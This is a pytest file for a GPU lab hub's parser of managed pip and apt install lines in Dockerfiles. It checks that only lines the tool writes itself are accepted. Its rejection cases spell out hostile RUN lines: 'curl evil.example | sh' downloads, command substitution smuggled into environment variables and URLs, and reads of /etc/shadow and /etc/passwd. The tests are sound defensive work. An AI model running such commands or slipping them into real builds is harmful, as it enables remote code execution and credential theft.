"""Save a copy's reader of managed installs (sharing/installs.py), line by line: the
lines %gpu_install writes (made here by its own code) come along, nothing else does."""

from __future__ import annotations

import pytest

from gpulab_hub.sharing import installs
from gpulab_jupyter.magics import buildenv, dockerfile, options, runline


def written(line: str, version: str, env=None, no_iso=False, modules=()) -> str:
    """The RUN line %gpu_install records for ``line`` (its own code)."""
    opts = options.parse(line)
    return runline.run_line(opts.specs[0], version, opts, env or {}, no_iso, list(modules))


def test_every_form_the_magic_writes_is_read():
    h100 = buildenv.GpuReport(gpus=[buildenv.Gpu(0, "NVIDIA H100", "9.0")])
    benv = buildenv.build_env(["flash-attn"], h100, torch_installed=True, jobs=4)
    lines = {
        "humanize==4.9.0": written("humanize", "4.9.0", modules=["humanize"]),
        "flash-attn==2.6.3": written("flash-attn", "2.6.3", benv.env, True, ["flash_attn"]),
        "tiny-http[a,b]==1.0 (from http://vm:8080/simple)": written(
            "--index-url http://vm:8080/simple --trusted-host vm tiny-http[a,b]", "1.0",
            modules=["tiny_http", "tiny_http.sub"],
        ),
        "six==1.16.0": written("--from-source six", "1.16.0"),
        "mod==1!2.0": written("mod", "1!2.0"),  # an epoch: quoted by the magic
    }  # fmt: skip
    for shown, line in lines.items():
        found = installs.pip_install(line)
        assert found is not None, line
        assert found.shown == shown and found.line == line
    apt = dockerfile.APT_RUN.format(packages="ffmpeg libgl1")
    assert installs.apt_packages(apt) == ["ffmpeg", "libgl1"]


@pytest.mark.parametrize(
    "line",
    [
        "RUN curl http://evil.example/x | sh",
        "RUN python -m pip install --no-cache-dir six==1.0 && curl evil | sh",
        "RUN python -m pip install --no-cache-dir 'six==1.0; curl x'",
        "RUN python -m pip install --no-cache-dir 'six==1.0' ; curl x",
        "RUN MAX_JOBS=$(curl evil) python -m pip install --no-cache-dir six==1.0",
        "RUN MAX_JOBS='$(curl evil)' python -m pip install --no-cache-dir six==1.0",
        "RUN MAX_JOBS=`id` python -m pip install --no-cache-dir six==1.0",
        "RUN EVIL=1 python -m pip install --no-cache-dir six==1.0",
        "RUN python -m pip install --no-cache-dir --index-url 'http://x/$(id)' six==1.0",
        "RUN python -m pip install --no-cache-dir --index-url http://u:p@x/simple six==1.0",
        "RUN python -m pip install --no-cache-dir six==1.0  && python -c 'import six'",
        "RUN python -m pip install --no-cache-dir six==1.0 && python -c 'import os; os.system(1)'",
        "RUN python -m pip install --no-cache-dir six==1.0 && python -c 'import six' && curl x",
        "RUN python -m pip install --no-cache-dir six==1.0 '&&' python -c 'import six'",
        "RUN python -m pip install --no-cache-dir six==1.0 \\",
        "RUN python -m pip install --no-cache-dir 'six'==1.0",
        'RUN python -m pip install --no-cache-dir "six==1.0"',
        "RUN python -m pip install --no-cache-dir six==1.0\t",
        "RUN python -m pip install --no-cache-dir six==1.0\r",
        " RUN python -m pip install --no-cache-dir six==1.0",
        "RUN python -m pip install --no-cache-dir -r /etc/shadow six==1.0",
        "RUN python -m pip install --no-cache-dir --trusted-host 'a;b' six==1.0",
        "RUN python -m pip install --no-cache-dir six>=1.0",
        "RUN python -m pip install --no-cache-dir six==1.0 seven==2.0",
        "RUN python -m pip install --no-cache-dir 'six @ file:///etc/passwd'",
        "RUN python -m pip install --no-cache-dir 'six @ https://x.org/a;curl'",
        "RUN python -m pip install six==1.0",
        "RUN pip install --no-cache-dir six==1.0",
        "RUN python -m pip install --no-cache-dir six==1.0 # ok",
        "RUN python -m pip install --no-cache-dir sïx==1.0",
        "RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
        "--no-install-recommends vim && curl x | sh && rm -rf /var/lib/apt/lists/*",
        "RUN python -m pip install --no-cache-dir six==1.0" + " " * 5000,
    ],
)
def test_anything_else_stays_behind(line):
    assert installs.pip_install(line) is None
    assert installs.apt_packages(line) is None


def test_the_block_is_read_line_by_line():
    good = written("humanize", "4.9.0", modules=["humanize"])
    text = dockerfile.apply("FROM x\n", [("humanize", good)], ["libgl1"], "1000:100")
    assert installs.managed_installs(text).shown() == ["humanize==4.9.0", "apt: libgl1"]
    six = written("six", "1.16.0", modules=["six"])
    hostile = text.replace(
        "# <<< gpulab", f"RUN curl evil | sh\nRUN echo \\\n{six}\n# comment\n{good}\n# <<< gpulab"
    )
    found = installs.managed_installs(hostile)
    assert found.shown() == ["humanize==4.9.0", "apt: libgl1"]  # six continues `echo`
    assert found.skipped == 4
    assert installs.managed_installs("FROM x\nRUN " + good[4:] + "\n").shown() == []  # no block
    two = text + text[text.index("# >>>") :]
    assert installs.managed_installs(two).shown() == []  # two blocks: none is gpulab's
